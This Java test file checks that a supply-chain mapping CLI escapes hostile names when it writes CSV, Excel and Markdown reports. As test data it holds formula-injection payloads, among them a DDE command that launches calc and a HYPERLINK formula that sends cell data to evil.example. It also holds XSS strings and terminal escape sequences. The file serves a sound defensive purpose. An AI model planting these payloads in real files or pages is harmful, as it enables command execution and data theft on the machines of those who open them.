package org.chainmap.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.chainmap.io.MapReader;
import org.chainmap.io.sheet.ImportOptions;
import org.chainmap.io.sheet.ImportPreview;
import org.chainmap.io.sheet.Importer;
import org.chainmap.io.sheet.TextCells;
import org.chainmap.model.RegionMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Names an attacker chose, through every spreadsheet and report we write: no cell a spreadsheet runs as a
 * formula, no cell too long for Excel, no script in Markdown.
 */
class HostileNamesTest {

    static final String CMD = "=cmd|' /C calc'!A0";
    static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String PLUS = "+1+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    static final String LONG = "长".repeat(40_000);

    @TempDir
    Path dir;

    /**
     * A map whose chain, segments and firms carry {@code names}: chain, two segments, then one firm each; the
     * firms' small revenues make their segment weak (size is judged: decision 0022).
     */
    Path map(String chain, String segment, String missing, List<String> firms) throws Exception {
        StringBuilder enterprises = new StringBuilder();
        for (int i = 0; i < firms.size(); i++) {
            enterprises
                    .append(i == 0 ? "" : ",\n")
                    .append("{\"id\": \"f")
                    .append(i)
                    .append("\", \"name\": ")
                    .append(json(firms.get(i)))
                    .append(", \"local\": true, \"segments\": [\"c.s\"], \"revenue\": 1000}");
        }
        String text =
                """
                {"format": "chainmap", "version": 1, "region": {"name": "衡阳市"},
                 "chains": [{"id": "c", "name": %s,
                   "segments": [{"id": "c.s", "name": %s, "stage": "midstream"},
                                {"id": "c.m", "name": %s, "stage": "downstream"}]}],
                 "enterprises": [%s]}
                """
                        .formatted(json(chain), json(segment), json(missing), enterprises);
        Path file = dir.resolve("hostile.json");
        Files.writeString(file, text, StandardCharsets.UTF_8);
        assertThat(MapReader.read(file).ok())
                .as(MapReader.read(file).problems().toString())
                .isTrue();
        return file;
    }

    static String json(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            out.append(c == '"' || c == '\\' ? "\\" + c : c < 0x20 ? String.format("\\u%04x", (int) c) : c);
        }
        return out.append('"').toString();
    }

    /** The fields of a CSV text, quotes undone. */
    private static List<String> csvFields(String csv) {
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                fields.add(field.toString().replace("\r", ""));
                field.setLength(0);
            } else {
                field.append(c);
            }
        }
        return fields;
    }

    @Test
    void gapsCsvMarksEveryFormulaAsText() throws Exception {
        Path file = map(CMD, PLUS, AT, List.of(LINK, MINUS, "-12.5"));
        CliRun run = CliRun.of("gaps", file.toString(), "--format", "csv");
        assertThat(run.code()).as(run.err()).isZero();
        List<String> fields = csvFields(run.out().substring(1));
        assertThat(fields).contains("'" + CMD, "'" + AT).anyMatch(field -> field.startsWith("'" + PLUS));
        assertThat(fields).as("no field a spreadsheet reads as a formula").noneMatch(TextCells::formulaLike);
        assertThat(TextCells.forCsv("-12.5")).isEqualTo("-12.5");
        assertThat(TextCells.forCsv("\tx")).isEqualTo("'\tx");
        assertThat(TextCells.forCsv("a=b")).isEqualTo("a=b");
    }

    @Test
    void reportWorkbookHasFormulasAsQuotedTextAndLongTextCut() throws Exception {
        Path file = map(CMD, PLUS, LONG, List.of(LINK, MINUS, AT));
        Path xlsx = dir.resolve("report.xlsx");
        CliRun run = CliRun.of("report", file.toString(), "--xlsx", xlsx.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.err()).contains("cut").contains(TextCells.CUT_MARK);
        List<Cell> texts = textCells(xlsx);
        assertThat(texts).extracting(Cell::getStringCellValue).contains(CMD, LINK, AT);
        assertQuotedWhereFormulaLike(texts);
        assertThat(texts)
                .extracting(Cell::getStringCellValue)
                .anyMatch(text -> text.length() == TextCells.MAX_LENGTH && text.endsWith(TextCells.CUT_MARK));
    }

    @Test
    void reportWorkbookIsWellFormedXmlWithControlsInNames() throws Exception {
        String controls = "\u001b]0;pwned\u0007链\u0000\u0001";
        Path file = map(controls, controls, controls, List.of(controls));
        for (String option : List.of("report", "template")) {
            Path xlsx = dir.resolve(option + ".xlsx");
            CliRun run = option.equals("report")
                    ? CliRun.of("report", file.toString(), "--xlsx", xlsx.toString())
                    : CliRun.of("template", file.toString(), "--out", xlsx.toString());
            assertThat(run.code()).as(run.err()).isZero();
            try (java.util.zip.ZipFile zip = new java.util.zip.ZipFile(xlsx.toFile())) {
                for (java.util.zip.ZipEntry entry : java.util.Collections.list(zip.entries())) {
                    if (entry.getName().endsWith(".xml")) {
                        try (InputStream in = zip.getInputStream(entry)) {
                            // A real XML parser: Excel refuses a part that is not well-formed.
                            javax.xml.parsers.DocumentBuilderFactory.newInstance()
                                    .newDocumentBuilder()
                                    .parse(in);
                        }
                    }
                }
            }
            assertThat(textCells(xlsx)).isNotEmpty();
        }
    }

    @Test
    void templateHasFormulasAsQuotedTextAndReadsBackAsNoChange() throws Exception {
        Path file = map(CMD, PLUS, AT, List.of(LINK, MINUS, "-12.5"));
        Path xlsx = dir.resolve("template.xlsx");
        CliRun run = CliRun.of("template", file.toString(), "--out", xlsx.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.err()).isEmpty();
        List<Cell> texts = textCells(xlsx);
        assertThat(texts).extracting(Cell::getStringCellValue).contains(CMD, LINK, PLUS, AT, MINUS);
        assertQuotedWhereFormulaLike(texts);

        RegionMap map = MapReader.read(file).map().orElseThrow();
        ImportPreview preview = Importer.preview(map, xlsx, ImportOptions.DEFAULTS);
        assertThat(preview.changes())
                .as("the map's own data changes nothing in it")
                .isZero();
    }

    @Test
    void templateCsvMarksFormulasAsTextAndReadsBackAsNoChange() throws Exception {
        // Issue 17: template --csv wrote =cmd|… as it was, and Excel or WPS opening segments.csv ran it.
        String tab = "\t=1+cmd|' /C calc'!A0";
        String marked = "'" + CMD;
        // A name beginning with a tab is marked too; it is left out of the map, as an import trims its cells.
        assertThat(TextCells.forCsv(tab)).isEqualTo("'" + tab);
        assertThat(TextCells.fromCsv("'" + tab)).isEqualTo(tab);
        Path file = map(CMD, PLUS, AT, List.of(LINK, MINUS, "-12.5", marked));
        Path folder = dir.resolve("csv");
        CliRun run = CliRun.of("template", file.toString(), "--csv", folder.toString());
        assertThat(run.code()).as(run.err()).isZero();
        List<String> fields = new ArrayList<>();
        List<String> args = new ArrayList<>(List.of("import", file.toString(), "--dry-run"));
        try (var files = Files.list(folder)) {
            for (Path csv : files.sorted().toList()) {
                fields.addAll(
                        csvFields(Files.readString(csv, StandardCharsets.UTF_8).substring(1)));
                args.addAll(List.of("--csv", csv.toString()));
            }
        }
        assertThat(fields)
                .contains("'" + CMD, "'" + PLUS, "'" + AT, "'" + LINK, "'" + MINUS, "'" + marked)
                .contains("-12.5");
        assertThat(fields).as("no field a spreadsheet reads as a formula").noneMatch(TextCells::formulaLike);
        assertThat(TextCells.fromCsv("'" + marked)).isEqualTo(marked);
        assertThat(TextCells.fromCsv("'tis")).isEqualTo("'tis");

        CliRun back = CliRun.of(args.toArray(String[]::new));
        assertThat(back.code()).as(back.err()).isZero();
        assertThat(back.out())
                .as("the map's own data, marks taken off, changes nothing")
                .contains("\n0 to add, 0 to update, ");
    }

    @Test
    void templateCutsANameLongerThanACellAndSaysSo() throws Exception {
        Path file = map("输变电", "变压器", "线缆", List.of(LONG, "特变电工"));
        Path xlsx = dir.resolve("template.xlsx");
        CliRun run = CliRun.of("template", file.toString(), "--out", xlsx.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.err()).contains("1 cell held").contains("!B2");
        assertThat(textCells(xlsx))
                .extracting(Cell::getStringCellValue)
                .anyMatch(text -> text.length() == TextCells.MAX_LENGTH && text.endsWith(TextCells.CUT_MARK));
    }

    @Test
    void markdownReportHasNoTagNoScriptAndNoLink() throws Exception {
        String script = "<script>alert(1)</script>";
        String image = "<img src=x onerror=alert(2)>";
        String link = "[click](javascript:alert(3))";
        String auto = "<javascript:alert(4)>";
        String entity = "&lt;script&gt;alert(5)&lt;/script&gt;";
        String data = "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)";
        Path file = map(script, image, link, List.of(auto, entity, data, "- *emph* | `code`\nsecond line"));
        Path md = dir.resolve("report.md");
        CliRun run = CliRun.of("report", file.toString(), "--md", md.toString());
        assertThat(run.code()).as(run.err()).isZero();
        String text = Files.readString(md);
        assertThat(text.replace("<br>", ""))
                .as("no tag but the line break, no autolink")
                .doesNotContain("<");
        assertThat(text)
                .as("no link: every ] before ( is escaped")
                .doesNotContainPattern("(?<!\\\\)\\]\\(")
                .doesNotContain("&lt;script&gt;alert(5)")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
                .contains("\\[click\\](javascript:alert(3))")
                .contains("&amp;lt;script&amp;gt;alert(5)")
                .contains("\\- \\*emph\\* \\| \\`code\\`<br>second line");
    }

    private static void assertQuotedWhereFormulaLike(List<Cell> texts) {
        for (Cell cell : texts) {
            String text = cell.getStringCellValue();
            boolean formulaLike = List.of(CMD, LINK, PLUS, AT, MINUS).stream().anyMatch(text::startsWith);
            assertThat(cell.getCellStyle().getQuotePrefixed())
                    .as("quote prefix of %s", cell.getStringCellValue())
                    .isEqualTo(formulaLike);
        }
    }

    /** Every cell of the workbook; they must all be text or numbers, never formulas. */
    private static List<Cell> textCells(Path xlsx) throws Exception {
        List<Cell> texts = new ArrayList<>();
        try (InputStream in = Files.newInputStream(xlsx);
                Workbook workbook = new XSSFWorkbook(in)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            texts.add(cell);
                        }
                    }
                }
            }
        }
        return texts;
    }
}
